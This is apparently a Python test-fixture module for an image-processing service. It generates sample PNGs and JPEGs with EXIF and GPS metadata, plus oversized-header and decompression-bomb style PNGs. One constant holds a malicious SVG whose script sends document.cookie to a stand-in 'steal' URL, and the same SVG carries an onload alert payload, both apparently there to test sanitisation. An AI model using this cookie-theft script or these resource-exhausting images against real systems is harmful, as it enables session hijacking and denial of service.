"""Images made on the fly for the tests, so no binary fixture is committed."""

from __future__ import annotations

import hashlib
import io
import struct
import zlib

from PIL import ExifTags, Image, TiffImagePlugin

from processor_service.steps import StepInput


def encoded(image: Image.Image, image_format: str, **params: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=image_format, **params)
    return buffer.getvalue()


def png(width: int, height: int, color: tuple[int, ...] = (200, 30, 30)) -> bytes:
    mode = "RGBA" if len(color) == 4 else "RGB"
    return encoded(Image.new(mode, (width, height), color), "PNG")


def halves(width: int, height: int) -> Image.Image:
    """Left half red, right half blue: shows which way an image was turned."""
    image = Image.new("RGB", (width, height), (255, 0, 0))
    image.paste((0, 0, 255), (width // 2, 0, width, height))
    return image


def camera_exif(orientation: int = 1, *, gps: bool = False) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "TestCam"
    exif[ExifTags.Base.Model] = "Model 1"
    exif[ExifTags.Base.Orientation] = orientation
    details = exif.get_ifd(ExifTags.IFD.Exif)
    details[ExifTags.Base.DateTimeOriginal] = "2024:01:02 03:04:05"
    details[ExifTags.Base.ExposureTime] = TiffImagePlugin.IFDRational(1, 250)
    if gps:
        position = exif.get_ifd(ExifTags.IFD.GPSInfo)
        position[ExifTags.GPS.GPSLatitudeRef] = "N"
        position[ExifTags.GPS.GPSLatitude] = (52.0, 22.0, 12.0)
        position[ExifTags.GPS.GPSLongitudeRef] = "E"
        position[ExifTags.GPS.GPSLongitude] = (4.0, 53.0, 30.0)
    return exif


def jpeg_with_exif(image: Image.Image, orientation: int = 1, *, gps: bool = False) -> bytes:
    return encoded(image, "JPEG", quality=95, exif=camera_exif(orientation, gps=gps))


def _chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data) & 0xFFFFFFFF
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def png_header_only(width: int, height: int) -> bytes:
    """A valid PNG header claiming `width`x`height` pixels with almost no pixel data."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _chunk(b"IEND", b"")
    )


def png_of_zeros(width: int, height: int) -> bytes:
    """A complete, valid 1-bit greyscale PNG, all black: tiny on disk however large.

    Rows are compressed one at a time, so building it takes no more memory than a row.
    """
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    row = bytes(1 + (width + 7) // 8)  # the filter byte, then the packed pixels
    compressor = zlib.compressobj(9)
    pixels = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", pixels)
        + _chunk(b"IEND", b"")
    )


SVG_WITH_SCRIPT = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="4000" height="4000">
  <script>fetch("http://127.0.0.1:9/steal?c=" + document.cookie)</script>
  <rect width="100" height="100" fill="red" onload="alert(1)"/>
</svg>
"""


def step_input(data: bytes, content_type: str) -> StepInput:
    return StepInput(hashlib.sha256(data).hexdigest(), len(data), content_type)
